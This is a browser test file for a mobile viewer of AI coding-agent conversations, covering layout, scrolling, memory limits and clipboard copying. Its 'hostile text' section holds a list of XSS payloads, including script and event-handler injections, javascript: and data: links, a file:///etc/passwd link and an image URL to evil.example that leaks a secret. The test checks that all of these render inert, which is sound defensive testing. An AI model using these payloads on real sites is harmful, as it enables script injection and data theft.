// The conversation on a phone, in a real browser, with the server's strict headers.
import { afterAll, beforeAll, expect, setDefaultTimeout, test } from "bun:test";
import type { Browser } from "playwright-core";
import { pageAssets } from "../src/page.ts";
import type { Message } from "../src/protocol.ts";
import { withHeaders } from "../src/server/headers.ts";
import { openBrowser, Phone } from "../src/testing/page.ts";
import { type OpenPage, pageOpener, type Scene } from "./testing/open-page.ts";
import { answer, call, result, TALK, talk, tells, thought, turn, user } from "./testing/talk.ts";
import { session } from "./testing/world.ts";

/** They wait for one another: only a few pages are open at once. */
setDefaultTimeout(240_000);

let browser: Browser;
let opener: (scene: Scene) => Promise<OpenPage>;
const assets = await pageAssets();

beforeAll(async () => {
  browser = await openBrowser();
  opener = pageOpener({ browser, assets, dress: withHeaders, openPhone: Phone.open });
});
afterAll(() => browser.close());

const shop = session("webshop", { status: "idle", title: "Fix the cart total", conversation: TALK });
const open = (messages: Message[], scene: Scene = {}) =>
  opener({
    path: `/s/${shop.id}`,
    sessions: [shop],
    ...scene,
    before: ({ server }) => tells(server, shop.id, messages),
  });
const said = ({ page }: OpenPage, text: string | RegExp) =>
  page.locator(".said").filter({ hasText: text, visible: true }).first();
/** Sends what was said next, live. */
const say = ({ server }: OpenPage, messages: Message[]) => {
  for (const message of messages) server.send("message", { session: shop.id, message });
};
const scroller = ({ page }: OpenPage) => page.locator(".conversation-scroll");

const LONG = `${"x".repeat(5_000)} and an end`;
const CODE = `export function total(items: Item[]): number {\n  return items.reduce((sum, item) => sum + item.price * item.amount, 0); // a comment that goes on and on, past the edge of any phone\n}`;
const PATCH = [
  {
    old_start: 12,
    new_start: 12,
    lines: [
      " export function total(items: Item[]) {",
      "-  return items.reduce((sum, item) => sum + item.price, 0);",
      "+  return items.reduce((sum, item) => sum + item.price * item.amount, 0);",
      " }",
    ],
  },
];

const CART_SAID: Parameters<typeof talk>[0] = [
  user("The total in the cart is wrong when an item is there twice. Please fix it and add a test."),
  thought("The reducer probably ignores the amount. Let me look at the code first.\nThen the tests."),
  answer("I'll look at how the total is computed."),
  call("c1", "Read", { file_path: `${shop.cwd}/src/cart/total.ts` }),
  result("c1", Array.from({ length: 40 }, (_, i) => `${i + 1}\tline ${i + 1}`).join("\n")),
  call("c2", "Bash", { command: "npm test -- --filter cart", description: "Run the tests of the cart" }),
  result(
    "c2",
    "FAIL src/cart/total.test.ts\n  expected 20, received 10\n\nTests: 1 failed, 11 passed",
    { failed: "error" },
    7,
  ),
  call("c3", "Edit", {
    file_path: `${shop.cwd}/src/cart/total.ts`,
    old_string: "sum + item.price",
    new_string: "sum + item.price * item.amount",
  }),
  result("c3", "The file has been updated.", { patch: PATCH }),
  call("c4", "TodoWrite", {
    todos: [
      { content: "Find the fault", status: "completed", activeForm: "Finding" },
      {
        content: "Mend it and add a test for an item that is there twice",
        status: "in_progress",
        activeForm: "Mending",
      },
      { content: "Run all tests", status: "pending", activeForm: "Running" },
    ],
  }),
  result("c4", "Todos have been modified"),
  call("c5", "Agent", { description: "Look for other totals", prompt: "…" }),
  result("c5", "There are no others.", { agent: { tools: 7, ms: 41_000 } }, 41),
  answer(
    `## What was wrong\n\nThe reducer **ignored the amount**, so an item that is there *twice* counted once. It is in \`src/cart/total.ts\`:\n\n\`\`\`ts\n${CODE}\n\`\`\`\n\n1. The total multiplies by the amount\n2. A test holds it:\n   - one item, amount two\n   - two items\n- [x] tests pass\n- [ ] release notes\n\n| before | after | test |\n|---|---|---|\n| 10 | 20 | \`an item that is there twice counts twice\` |\n\nSee [the docs](https://docs.example.com/cart/total?x=1) or https://example.org/a_b_c.\n\n> Nothing else uses it.`,
  ),
  turn(62_000),
  user("Thanks! And the tax?"),
  call("c6", "Bash", { command: "grep -rn tax src | head -50", description: "Look for tax" }),
];
const CART = talk(CART_SAID);

test.concurrent("a conversation reads as what was said and done, in both themes", async () => {
  await using page = await open(CART);
  await said(page, "And the tax?").waitFor();
  expect(await page.phone.overflows()).toBe(false);
  await page.pictures("conversation-end");
  await scroller(page).evaluate((box) => box.scrollTo(0, 0));
  await said(page, "The total in the cart").waitFor();
  await page.pictures("conversation-start");
  await scroller(page).evaluate((box) => box.scrollTo(0, 900));
  await page.pictures("conversation-middle");
});

test.concurrent("code is coloured by a script that comes on demand, and reads as it was", async () => {
  await using page = await open(CART);
  const words = page.page.locator(".code-box code").filter({ visible: true });
  await words.locator(".code-keyword").first().waitFor();
  expect(await words.first().textContent()).toBe(CODE);
  expect(await words.locator(".code-comment").first().textContent()).toContain("past the edge");
});

test.concurrent("every size holds it: no line, however long, moves the page sideways", async () => {
  const messages = talk([
    user(LONG),
    answer(
      `${LONG}\n\n\`\`\`\n${LONG}\n\`\`\`\n\n| ${LONG} | b |\n|---|---|\n| \`${LONG}\` | d |\n\n- ${LONG}\n\n# ${LONG}`,
    ),
    call("c1", `mcp__${"server".repeat(30)}__${"tool".repeat(30)}`, { command: LONG, description: LONG }),
    result("c1", `${LONG}\n${LONG}`),
    call("c2", "Edit", { file_path: `/${LONG}`, old_string: LONG, new_string: `${LONG}!` }),
    result("c2", "done"),
    call("c3", "TodoWrite", { todos: [{ content: LONG, status: "pending" }] }),
    answer(
      `[${LONG}](https://${"a".repeat(60)}.example/${LONG}) <https://example.com/${LONG.slice(0, 900)}>`,
    ),
  ]);
  const sizes = [
    [390, 844],
    [320, 568],
    [844, 390],
  ] as const;
  for (const [width, height] of sizes) {
    await using page = await open(messages, { width, height });
    await page.page.locator(".said").first().waitFor();
    const widest = await page.page.evaluate(async () => {
      const box = document.querySelector(".conversation-scroll");
      if (!box) return null;
      const widths = { page: 0, box: 0, opened: 0 };
      const drawn = () =>
        new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
      for (let y = 0; y < box.scrollHeight; y += box.clientHeight) {
        box.scrollTop = y;
        await drawn();
        for (const head of box.querySelectorAll<HTMLElement>("details:not([open]) > .line-head")) {
          head.click();
          widths.opened++;
        }
        await drawn();
        widths.page = Math.max(widths.page, document.documentElement.scrollWidth - innerWidth);
        widths.box = Math.max(widths.box, box.scrollWidth - box.clientWidth);
      }
      return widths;
    });
    expect(widest, `${width}×${height}`).toEqual({ page: 0, box: 0, opened: expect.any(Number) });
    expect(widest?.opened).toBeGreaterThan(0);
    if (width === 320) await page.pictures("conversation-long-320");
  }
});

test.concurrent("small screens: the same conversation at 320×568", async () => {
  await using page = await open(CART, { width: 320, height: 568 });
  await said(page, "And the tax?").waitFor();
  expect(await page.phone.overflows()).toBe(false);
  await page.pictures("conversation-320");
  await scroller(page).evaluate((box) => box.scrollTo(0, 300));
  await page.pictures("conversation-320-middle");
});

test.concurrent("a call opens to its input and its result, and what is open stays open", async () => {
  await using page = await open(CART);
  const bash = said(page, "npm test -- --filter cart");
  await bash.locator(".line-head").tap();
  await bash.getByText("expected 20, received 10").waitFor();
  await page.pictures("conversation-call");
  await scroller(page).evaluate((box) => box.scrollTo(0, box.scrollHeight));
  await said(page, "And the tax?").waitFor();
  await bash.getByText("expected 20, received 10").waitFor();
});

test.concurrent("what opens at the end stays under the finger, and what is long can be closed from anywhere in it", async () => {
  const output = Array.from({ length: 300 }, (_, i) => `line ${i}`).join("\n");
  await using page = await open(
    talk([
      ...Array.from({ length: 60 }, (_, i) => answer(`Before ${i}`)),
      ...CART_SAID,
      call("c7", "Bash", { command: "cat all" }),
      result("c7", output),
    ]),
  );
  const last = said(page, "cat all");
  await last.waitFor();
  const head = last.locator(".line-head");
  const before = await head.boundingBox();
  await head.tap();
  // A tap would first bring the button into sight.
  await last
    .getByRole("button", { name: "Show all (300 lines)" })
    .evaluate((button) => (button as HTMLElement).click());
  await wheel(page, 0);
  expect(Math.abs(((await head.boundingBox())?.y ?? 0) - (before?.y ?? 1e9))).toBeLessThanOrEqual(1);
  await wheel(page, 3_000);
  const box = await scroller(page).boundingBox();
  expect((await head.boundingBox())?.y).toBeCloseTo(box?.y ?? 0, -1);
  await page.pictures("conversation-inside");
  await head.tap();
  await wheel(page, 0);
  const closed = await head.boundingBox();
  expect(closed?.y).toBeGreaterThanOrEqual((box?.y ?? 0) - 1);
  expect(closed?.y).toBeLessThan((box?.y ?? 0) + (box?.height ?? 0));
  // Drawn anew it is as it was left: all of it is shown.
  await wheel(page, -100_000);
  await last.waitFor({ state: "detached" });
  await wheel(page, 100_000);
  await head.tap();
  await last.getByText("line 299").waitFor();
});

test.concurrent("a result that comes joins its call, and a text can be copied", async () => {
  await using page = await open(CART);
  const grep = said(page, "grep -rn tax");
  await grep.waitFor();
  const next = talk([
    ...Array.from({ length: CART.length }, () => user("")),
    result("c6", "src/tax.ts:1: tax"),
  ]);
  say(page, next.slice(-1));
  await grep.getByText(/1 line$/).waitFor();
  await page.page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
  await page.phone.button("Copy message").last().tap();
  await page.page.getByRole("status").filter({ hasText: "Copied" }).waitFor();
  expect(await page.page.evaluate(() => navigator.clipboard.readText())).toStartWith("## What was wrong");
  // Nobody announces what is streamed; who does not see it asks for it.
  await page.phone.button("Read the latest").press("Enter");
  const spoken = page.page.getByRole("status").filter({ hasText: "Bash: src/tax.ts:1: tax" });
  await spoken.waitFor({ state: "attached" });
});

test.concurrent("a session of another program has its screen and its log, and nothing else", async () => {
  await using page = await open([], { sessions: [{ ...shop, conversation: null }] });
  await page.page.getByRole("tab", { name: "Screen" }).waitFor();
  expect(await page.page.getByRole("tab").allInnerTexts()).toEqual(["Screen", "Log"]);
  expect([...page.server.sent.keys()].filter((path) => path.startsWith("/conversation"))).toEqual([]);
});

test.concurrent("before the first word the screen is there; with it the conversation can be chosen", async () => {
  await using page = await open([]);
  await page.page.getByRole("tab", { name: "Screen", selected: true }).waitFor();
  say(page, CART.slice(0, 1));
  await page.page.getByRole("tab", { name: "Conversation" }).tap();
  await said(page, "The total in the cart").waitFor();
});

// ── what is read never moves ────────────────────────────────────────────────────────────────────────────────────────

/** Messages like a real conversation's, in numbers. */
const many = (count: number) =>
  talk(
    Array.from({ length: count }, (_, i) => {
      if (i % 5 === 0) return user(`Question ${i}`);
      if (i % 5 === 1) return call(`c${i}`, "Bash", { command: `make part-${i}` });
      if (i % 5 === 2) return result(`c${i - 1}`, `made part ${i}\n`.repeat(1 + (i % 30)));
      if (i % 5 === 3)
        return answer(`Answer ${i}: **bold** and \`code\`.\n\n${"More words. ".repeat(i % 40)}`);
      return answer(`\`\`\`ts\nconst part${i} = ${i};\n\`\`\``);
    }),
  );

/** Scrolls as far as `until` says, by screens. */
const scrollTo = (page: OpenPage, to: "top" | "bottom", text: string) =>
  scroller(page).evaluate(
    async (box, { to, text }) => {
      const frame = () => new Promise((resolve) => requestAnimationFrame(resolve));
      const from = performance.now();
      const isThere = () =>
        [...box.querySelectorAll(".said")].some((one) => one.textContent?.includes(`:${text}`));
      let most = 0;
      while (!isThere() && performance.now() - from < 360_000) {
        box.scrollTop = to === "top" ? 0 : box.scrollHeight;
        await frame();
        most = Math.max(most, box.querySelectorAll(".said").length);
      }
      return { there: isThere(), most, ms: performance.now() - from };
    },
    { to, text },
  );

/** The first block whose beginning can be seen, and where that is. */
const reading = (page: OpenPage) =>
  scroller(page).evaluate((box) => {
    const { top } = box.getBoundingClientRect();
    const first = [...box.querySelectorAll<HTMLElement>(".said")].find(
      (one) => one.getBoundingClientRect().top >= top,
    );
    return { key: first?.dataset.key ?? "", y: (first?.getBoundingClientRect().top ?? 0) - top };
  });
const place = (page: OpenPage, key: string) =>
  scroller(page).evaluate((box, wanted) => {
    const found = [...box.querySelectorAll<HTMLElement>(".said")].find((one) => one.dataset.key === wanted);
    return found ? found.getBoundingClientRect().top - box.getBoundingClientRect().top : null;
  }, key);
/** To a pixel: a screen has none between two. */
async function holds(page: OpenPage, before: { key: string; y: number }) {
  const now = await place(page, before.key);
  expect(now).not.toBeNull();
  expect(Math.abs((now ?? 0) - before.y)).toBeLessThanOrEqual(1);
}
/** Turns a wheel over the conversation, and waits until all that follows from it is over. */
async function wheel(page: OpenPage, y: number) {
  await scroller(page).evaluate(async (box, by) => {
    box.scrollBy(0, by);
    for (let still = 0, last = -1; still < 20; still = box.scrollTop === last ? still + 1 : 0) {
      last = box.scrollTop;
      await new Promise((resolve) => requestAnimationFrame(resolve));
    }
  }, y);
}

test.concurrent("the end is followed only by who is there; a pill counts what came", async () => {
  const all = many(600);
  await using page = await open(all.slice(0, 500));
  await said(page, "Answer 498").waitFor();
  say(page, all.slice(500, 504));
  await said(page, "Answer 503").waitFor();
  expect(
    await scroller(page).evaluate((box) => box.scrollHeight - box.scrollTop - box.clientHeight),
  ).toBeLessThan(2);
  await wheel(page, -700);
  const before = await reading(page);
  say(page, all.slice(504, 520));
  const pill = page.page.locator('.conversation [data-part="pill"]');
  await pill.filter({ hasText: "New output (13)" }).waitFor();
  await holds(page, before);
  await page.pictures("conversation-pill");
  await pill.tap();
  await said(page, "Answer 518").waitFor();
  await pill.waitFor({ state: "hidden" });
});

test.concurrent("whoever scrolls away just when the list comes to rest at its end is not led back", async () => {
  await using page = await open(many(400));
  await said(page, "Answer 398").waitFor();
  const y = await scroller(page).evaluate(async (box) => {
    const frames = async (n: number) => {
      for (let i = 0; i < n; i++) await new Promise((resolve) => requestAnimationFrame(resolve));
    };
    await frames(20);
    // Heard before the list hears it: this clock rings right before the list's own, 120 ms after the last scrolling.
    const swing = () => setTimeout(() => box.scrollBy(0, -3_000), 120);
    document.addEventListener("scroll", swing, { capture: true, once: true });
    box.scrollBy(0, -1);
    await new Promise((resolve) => setTimeout(resolve, 300));
    await frames(5);
    return box.scrollHeight - box.scrollTop - box.clientHeight;
  });
  expect(y).toBeGreaterThan(2_000);
});

test.concurrent("a finger on what is drawn anew under it is known to have gone, and the list comes to rest", async () => {
  await using page = await open(many(400));
  await said(page, "Answer 398").waitFor();
  const clocks = await scroller(page).evaluate(async (box) => {
    const touched = [...box.querySelectorAll(".said")].at(-1);
    const touch = new Touch({ identifier: 1, target: touched ?? box });
    touched?.dispatchEvent(new TouchEvent("touchstart", { bubbles: true, touches: [touch] }));
    touched?.remove();
    touched?.dispatchEvent(new TouchEvent("touchend", { bubbles: true, touches: [] }));
    box.scrollBy(0, -1_000);
    const real = window.setTimeout;
    let clocks = 0;
    const counting = (work: () => void, ms = 0) => {
      if (ms === 120) clocks++;
      return real(work, ms);
    };
    Object.assign(window, { setTimeout: counting });
    // At rest it sets no clock any more; it comes to rest soon.
    for (let i = 0; i < 20 && (i === 0 || clocks > 0); i++) {
      clocks = 0;
      await new Promise((resolve) => real(resolve, 250));
    }
    Object.assign(window, { setTimeout: real });
    return clocks;
  });
  expect(clocks).toBe(0);
});

test.concurrent("reading back loads what was before, and nothing jumps on the way", async () => {
  await using page = await open(many(2_000));
  await said(page, "Answer 1998").waitFor();
  let jumps = 0;
  const loading = page.page.locator('.conversation [data-part="loading"]');
  for (let i = 0; i < 60; i++) {
    await loading.waitFor({ state: "hidden" }); // Where it ends for now nobody scrolls on.
    const before = await reading(page);
    await wheel(page, -300);
    const now = await place(page, before.key);
    if (now !== null && Math.abs(now - before.y - 300) > 1.5) jumps++;
  }
  expect(jumps).toBe(0);
  for (let i = 0; i < 200 && !(await said(page, /^You said:Question 0\d/).isVisible()); i++)
    await wheel(page, -20_000);
  await said(page, /Question 0/).waitFor();
  const keys = await scroller(page).evaluate((box) =>
    [...box.querySelectorAll<HTMLElement>(".said")].map((one) => one.dataset.key),
  );
  expect(new Set(keys).size).toBe(keys.length);
  expect(keys.length).toBeLessThanOrEqual(200);
});

test.concurrent("the keyboard, another width and another tab leave the reader where they were", async () => {
  await using page = await open(many(400));
  await said(page, "Answer 398").waitFor();
  await wheel(page, -3_000);
  const before = await reading(page);
  await page.page.setViewportSize({ width: 390, height: 480 });
  await wheel(page, 0);
  await holds(page, before);
  await page.page.setViewportSize({ width: 390, height: 844 });
  await wheel(page, 0);
  await holds(page, before);
  await page.page.getByRole("tab", { name: "Log" }).tap();
  say(page, many(405).slice(400));
  await page.page.getByRole("tab", { name: "Conversation" }).tap();
  await wheel(page, 0);
  await holds(page, before);
  // Another tab right after something was opened: the list does not look whether that is its end any more.
  await scroller(page).evaluate(async (box) => {
    const tab = (name: string) => document.querySelector<HTMLElement>(`#tab-${name}`);
    const { top } = box.getBoundingClientRect();
    const [first] = [...box.querySelectorAll<HTMLElement>(".said")].filter(
      (one) => one.getBoundingClientRect().top >= top,
    );
    first?.click();
    tab("log")?.click();
    await new Promise((resolve) => setTimeout(resolve, 200));
    tab("conversation")?.click();
  });
  await wheel(page, 0);
  await holds(page, before);
  await page.page.setViewportSize({ width: 844, height: 390 });
  await wheel(page, 0);
  const rotated = await place(page, before.key);
  expect(rotated).not.toBeNull();
  expect(Math.abs(rotated ?? 1e9)).toBeLessThan(390);
});

test.concurrent("/clear begins another conversation below the one before, and both can be read", async () => {
  const next = "talk-2" as typeof TALK;
  const later = talk([user("After the clearing"), answer("A fresh start")], next);
  await using page = await open(CART);
  await said(page, "And the tax?").waitFor();
  page.server.send("session_start", { session: { ...shop, conversation: next } });
  tells(page.server, shop.id, [...CART, ...later]);
  say(page, later);
  await said(page, "A fresh start").waitFor();
  await said(page, "A new conversation").waitFor();
  await page.page.reload();
  await said(page, "A fresh start").waitFor();
  await said(page, "And the tax?").waitFor();
  const order = await page.texts(".said.begins, .said.user .user-text");
  expect(order.slice(-3)).toEqual(["Thanks! And the tax?", "A new conversation", "After the clearing"]);
  await page.pictures("conversation-cleared");
});

test.concurrent("a conversation that cannot be loaded says so, and comes when it can", async () => {
  await using page = await opener({
    path: `/s/${shop.id}`,
    sessions: [shop],
    failures: true,
    before: ({ server }) =>
      server.reply(`/api/sessions/${shop.id}/messages`, () => ({
        status: 503,
        body: { error: { code: "unreachable", message: "The disk sleeps.", request: "1" } },
      })),
  });
  await page.page.getByText("The disk sleeps.").waitFor();
  tells(page.server, shop.id, CART);
  await said(page, "And the tax?").waitFor();
});

test.concurrent("a conversation that was left asks for nothing any more, whatever comes of what it asked", async () => {
  let answer: () => void = () => {};
  const error = { code: "unreachable", message: "The disk sleeps.", request: "1" };
  await using page = await opener({
    ...{ path: `/s/${shop.id}`, sessions: [shop], failures: true, clock: true },
    before: ({ server }) =>
      server.reply(`/api/sessions/${shop.id}/messages`, () => {
        return new Promise((resolve) => {
          answer = () => resolve({ status: 503, body: { error } });
        });
      }),
  });
  await page.server.call(`/api/sessions/${shop.id}/messages`);
  await page.page.locator(".session-view .back").tap();
  await page.page.locator(".list-view h1").waitFor();
  const came = page.page.waitForResponse((response) => response.url().includes("/messages"));
  answer();
  await (await came).finished();
  await page.page.clock.runFor(10_000);
  // What it would have asked for would have come before this.
  await page.page.evaluate(() => fetch("/api/last"));
  expect(page.server.asked.map(({ path }) => path)).toEqual([
    `/api/sessions/${shop.id}/messages`,
    "/api/last",
  ]);
});

test("a conversation larger than the page may hold is read back to its beginning and on to its end", async () => {
  const words = "Words that fill the memory. ".repeat(700);
  const all = talk(
    Array.from({ length: 3_000 }, (_, i) =>
      i % 2 === 0 ? user(`Question ${i}`) : answer(`Answer ${i} ${words}`),
    ),
  );
  await using page = await open(all.slice(0, 2_998));
  await said(page, "Answer 2997").waitFor();
  expect((await scrollTo(page, "top", "Question 0")).there).toBe(true);
  const debug = await page.page.context().newCDPSession(page.page);
  await debug.send("HeapProfiler.collectGarbage");
  const { usedSize } = await debug.send("Runtime.getHeapUsage");
  console.log(`30 million characters: heap ${(usedSize / 1e6).toFixed(1)} MB`);
  expect(usedSize).toBeLessThan(HEAP_BYTES);
  // Whoever reads on to the end of what is loaded reads on from there.
  const came = page.page.waitForResponse((response) => response.url().includes("after="));
  await scroller(page).evaluate((box) => box.scrollTo(0, box.scrollHeight));
  await (await came).finished();
  await wheel(page, 0);
  const left = await scroller(page).evaluate((box) => box.scrollHeight - box.scrollTop - box.clientHeight);
  expect(left).toBeGreaterThan(10_000);
  say(page, all.slice(2_998));
  tells(page.server, shop.id, all);
  expect((await scrollTo(page, "bottom", "Answer 2999")).there).toBe(true);
  await scrollTo(page, "top", "Question 0");
  await page.page.locator('.conversation [data-part="pill"]').tap();
  await said(page, "Answer 2999").waitFor();
}, 900_000);

// ── hostile text ────────────────────────────────────────────────────────────────────────────────────────────────────

const EVIL = [
  "<script>window.evil = 1</script>",
  '<img src=x onerror="window.evil = 2">',
  "<svg onload=window.evil=3>",
  '"><iframe srcdoc="<script>parent.evil=4</script>">',
  "[click](javascript:window.evil=5) [click](JaVaScRiPt:window.evil=6) [click](\u0001javascript:alert(1))",
  "[data](data:text/html,<script>window.evil=7</script>) [file](file:///etc/passwd) [vb](vbscript:x)",
  "![x](https://evil.example/p.png?leak=SECRET) ![x](data:image/png;base64,AAAA)",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=window.evil=8>",
  "```html\n</code></pre><script>window.evil = 9</script>\n```",
  "| <script>window.evil=10</script> | <b onclick=window.evil=11>b</b> |\n|---|---|\n| ![](//evil.example/x) | [a](//evil.example) |",
  "[bank.example](https://evil.example/bank.example) https://bank.example@evil.example/ <https://bank.example:443@evil.example>",
  "[mail](mailto:a@evil.example?body=x) [ünï](https://xn--evil-5ya.example/) [ok](HTTPS://Good.example/%00)",
].join("\n\n");

test.concurrent("SEC-049 SEC-050 hostile text is text: no script, no request, and every link shows its host", async () => {
  const input = { command: EVIL, description: EVIL, file_path: EVIL };
  const messages = talk([
    user(EVIL),
    thought(EVIL),
    call("c1", "Bash", input),
    result("c1", EVIL, { failed: "error" }),
    call("c2", `mcp__${EVIL}__<b>`, { [EVIL]: EVIL }),
    call("c3", "Edit", { file_path: EVIL, old_string: "a", new_string: EVIL }),
    result("c3", EVIL, { patch: [{ old_start: 1, new_start: 1, lines: [`-${EVIL}`, `+${EVIL}`] }] }),
    call("c4", "TodoWrite", { todos: [{ content: EVIL, status: EVIL }] }),
    call("c5", "ExitPlanMode", { plan: EVIL }),
    {
      role: "user",
      parts: [
        { type: "image", media_type: EVIL, bytes: 1 },
        { type: "command", text: EVIL },
        { type: "output", text: EVIL },
      ],
    },
    {
      role: "system",
      parts: [
        { type: "event", event: "error", text: EVIL },
        { type: "event", event: "task", text: EVIL },
      ],
    },
    answer(EVIL),
  ]);
  await using page = await open(messages);
  const requests: string[] = [];
  page.page.on("request", (request) => requests.push(request.url()));
  await page.page.locator(".said.answer").last().waitFor();
  await scroller(page).evaluate(async (box) => {
    for (let y = box.scrollHeight; y >= 0; y -= box.clientHeight) {
      box.scrollTop = y;
      await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
      for (const head of box.querySelectorAll<HTMLElement>("details:not([open]) > .line-head")) head.click();
    }
    box.scrollTop = box.scrollHeight;
  });
  const found = await page.page.evaluate(() => ({
    evil: "evil" in window,
    elements: document.querySelectorAll(
      ".said :is(script, img, iframe, svg:not(.icon), form, style, math, object, embed)",
    ).length,
    handlers: [...document.querySelectorAll(".said *")].filter((one) =>
      one.getAttributeNames().some((name) => name.startsWith("on")),
    ).length,
  }));
  expect(found).toEqual({ evil: false, elements: 0, handlers: 0 });
  expect(requests.filter((url) => url.includes("evil"))).toEqual([]);
  const links = await page.page
    .locator(".said.answer")
    .last()
    .evaluate((said) =>
      [...said.querySelectorAll("a")].map((link) => ({
        href: link.href,
        rel: link.rel,
        host: link.parentElement?.querySelector(".link-host")?.textContent ?? "",
      })),
    );
  expect(links.every(({ rel }) => rel === "noopener noreferrer")).toBe(true);
  expect(links.map(({ href, host }) => [href, host])).toEqual([
    ["https://evil.example/p.png?leak=SECRET", "(evil.example)"],
    ["https://evil.example/bank.example", "(evil.example)"],
    ["https://bank.example@evil.example/", "(evil.example)"],
    ["https://bank.example:443@evil.example/", "(evil.example)"],
    ["mailto:a@evil.example?body=x", "(a@evil.example)"],
    ["https://xn--evil-5ya.example/", "(xn--evil-5ya.example)"],
    ["https://good.example/%00", "(good.example)"],
  ]);
  expect(await page.phone.overflows()).toBe(false);
  await page.pictures("conversation-hostile");
});

test.concurrent("a message that is not what it should be is shown as far as it makes sense", async () => {
  const odd = [
    null,
    7,
    "x",
    [],
    {},
    { parts: 1 },
    {
      parts: [
        null,
        7,
        {},
        { type: "text" },
        { type: "call", input: 3 },
        { type: "result", patch: [{}, null], agent: 5 },
        { type: "event", event: "x" },
        { type: "later" },
      ],
    },
  ];
  const messages = odd.map(
    (body, seq): Message => ({
      conversation: TALK,
      uuid: `o${seq}`,
      seq,
      role: "assistant",
      body: body as never,
    }),
  );
  await using page = await open([
    ...messages,
    ...talk([answer("still here")]).map((one) => ({ ...one, uuid: "last", seq: 99 })),
  ]);
  await said(page, "still here").waitFor();
});

// ── 50,000 blocks ───────────────────────────────────────────────────────────────────────────────────────────────────

const HEAP_BYTES = 150_000_000;
const BLOCKS = 50_000;

test("50,000 blocks scroll, hold still, and fit into 150 MB", async () => {
  const all = many((BLOCKS * 5) / 4);
  await using page = await open(all);
  await said(page, `Answer ${all.length - 2}`).waitFor();
  const debug = await page.page.context().newCDPSession(page.page);
  // Back to the beginning, page by page; the server's pages are 200 messages.
  const loaded = await scrollTo(page, "top", "Question 0");
  expect(loaded.there).toBe(true);
  expect(loaded.most).toBeLessThanOrEqual(200);
  await debug.send("HeapProfiler.collectGarbage");
  const { usedSize } = await debug.send("Runtime.getHeapUsage");
  const frames = await scroller(page).evaluate(async (box) => {
    const times: number[] = [];
    let most = 0;
    for (let i = 0, last = performance.now(); i < 300; i++) {
      box.scrollTop += i % 50 === 49 ? 200_000 : 120;
      await new Promise((resolve) => requestAnimationFrame(resolve));
      times.push(performance.now() - last);
      last = performance.now();
      most = Math.max(most, box.querySelectorAll(".said").length);
    }
    times.sort((a, b) => a - b);
    return { median: times[150], p95: times[285], most };
  });
  expect(frames.most).toBeLessThanOrEqual(200);
  const before = await reading(page);
  say(page, many(all.length + 5).slice(all.length));
  await page.page.locator('.conversation [data-part="pill"]').filter({ hasText: "New output" }).waitFor();
  await holds(page, before);
  const megabytes = (usedSize / 1e6).toFixed(1);
  console.log(
    `${BLOCKS} blocks: heap ${megabytes} MB, loaded in ${Math.round(loaded.ms / 1000)} s, frame median ${frames.median?.toFixed(1)} ms, 95 % ${frames.p95?.toFixed(1)} ms, at most ${frames.most} blocks drawn`,
  );
  expect(usedSize).toBeLessThan(HEAP_BYTES);
}, 900_000);
